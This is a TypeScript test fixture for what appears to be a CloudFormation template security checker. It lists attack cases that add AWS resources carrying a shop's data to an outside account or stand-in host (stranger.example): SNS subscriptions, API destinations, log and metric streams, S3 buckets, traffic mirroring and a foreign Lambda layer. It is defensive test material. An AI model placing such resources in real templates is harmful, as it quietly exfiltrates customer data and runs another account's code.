import type { JsonRecord } from '../../../lib/cloudformation/model/json.ts';
import type { Shop } from '../diff/shop-edits.ts';
import { type Attack, strangers } from './attack.ts';

function handsOn(type: string, rule: string, properties: JsonRecord, what = 'data'): Attack {
  const short = type.replace(/^AWS::/, '');
  return [
    `${short} hands ${what} on`,
    rule,
    ({ add }: Shop) => add('data', 'Outlet', { Type: type, Properties: properties }),
  ];
}

const topic = `arn:aws:sns:eu-west-1:${strangers}:taps`;
const queue = `arn:aws:sqs:eu-west-1:${strangers}:taps`;
const logGroup = `arn:aws:logs:us-east-1:${strangers}:log-group:taps`;
const stream = `arn:aws:firehose:eu-west-1:${strangers}:deliverystream/taps`;

function subscribed(Protocol: string, Endpoint: string): Attack {
  const properties = { TopicArn: 'arn:aws:sns:eu-west-1:111111111111:orders', Protocol, Endpoint };
  return handsOn('AWS::SNS::Subscription', 'DATA-08-unnamed', properties, `messages by ${Protocol}`);
}

/** Ways by which AWS itself carries what the shop has to somebody else. */
export const attacksByOutlets: readonly Attack[] = [
  subscribed('https', 'https://stranger.example/taps'),
  subscribed('http', 'http://stranger.example/taps'),
  subscribed('email', 'somebody@stranger.example'),
  subscribed('sms', '+4930123456'),
  handsOn('AWS::SNS::Topic', 'DATA-08', {
    KmsMasterKeyId: 'alias/boutique',
    Subscription: [{ Protocol: 'sqs', Endpoint: queue }],
  }),
  handsOn('AWS::Events::ApiDestination', 'DATA-08-unnamed', {
    InvocationEndpoint: 'https://stranger.example',
  }),
  handsOn('AWS::Events::Endpoint', 'DATA-08', {
    EventBuses: [{ EventBusArn: `arn:aws:events:eu-west-1:${strangers}:event-bus/taps` }],
  }),
  handsOn('AWS::Route53::HostedZone', 'DATA-08', {
    Name: 'more.boutique.example',
    QueryLoggingConfig: { CloudWatchLogsLogGroupArn: `${logGroup}:*` },
  }),
  handsOn('AWS::CloudTrail::Trail', 'DATA-08', { CloudWatchLogsLogGroupArn: `${logGroup}:*` }),
  handsOn('AWS::Cognito::LogDeliveryConfiguration', 'DATA-08', {
    LogConfigurations: [{ CloudWatchLogsConfiguration: { LogGroupArn: logGroup } }],
  }),
  handsOn('AWS::Transfer::Server', 'DATA-08', { StructuredLogDestinations: [`${logGroup}:*`] }),
  handsOn('AWS::ECS::Cluster', 'DATA-08-unnamed', {
    Configuration: { ExecuteCommandConfiguration: { LogConfiguration: { S3BucketName: 'strangers-taps' } } },
  }),
  handsOn('AWS::CloudWatch::MetricStream', 'DATA-08', { FirehoseArn: stream }),
  handsOn('AWS::Oam::Link', 'DATA-08', { SinkIdentifier: `arn:aws:oam:eu-west-1:${strangers}:sink/taps` }),
  handsOn('AWS::Pipes::Pipe', 'DATA-08', {
    Target: 'arn:aws:sqs:eu-west-1:111111111111:a',
    Enrichment: `arn:aws:lambda:eu-west-1:${strangers}:function:taps`,
  }),
  handsOn('AWS::RDS::EventSubscription', 'DATA-08', { SnsTopicArn: topic }),
  handsOn('AWS::SES::ConfigurationSetEventDestination', 'DATA-08', {
    EventDestination: { SnsDestination: { TopicARN: topic } },
  }),
  handsOn('AWS::Athena::WorkGroup', 'DATA-08-unnamed', {
    WorkGroupConfiguration: { ResultConfiguration: { OutputLocation: 's3://taps/' } },
  }),
  handsOn('AWS::SES::ReceiptRule', 'DATA-08-unnamed', {
    Rule: { Actions: [{ S3Action: { BucketName: 'taps' } }] },
  }),
  handsOn('AWS::Synthetics::Canary', 'DATA-08-unnamed', { ArtifactS3Location: 's3://taps' }),
  handsOn('AWS::SSM::ResourceDataSync', 'DATA-08-unnamed', { S3Destination: { BucketName: 'taps' } }),
  // Of these types no rule knows where they name others.
  handsOn('AWS::Kinesis::StreamConsumer', 'TEMPLATE-accounts', {
    StreamARN: `arn:aws:kinesis:eu-west-1:${strangers}:stream/taps`,
  }),
  handsOn('AWS::EC2::TrafficMirrorTarget', 'TEMPLATE-accounts', {
    NetworkLoadBalancerArn: `arn:aws:elasticloadbalancing:eu-west-1:${strangers}:loadbalancer/net/taps/1`,
  }),
  [
    'a function runs code of another account',
    'TEMPLATE-accounts',
    ({ set }) =>
      set('payments', 'PaymentCallback', 'Properties.Layers', [
        `arn:aws:lambda:eu-west-1:${strangers}:layer:taps:1`,
      ]),
  ],
  [
    'access logs of the site go to a bucket that nobody saw',
    'DATA-08-unnamed',
    ({ set }) =>
      set('edge', 'Shop', 'Properties.DistributionConfig.Logging', { Bucket: 'taps.s3.amazonaws.com' }),
  ],
];
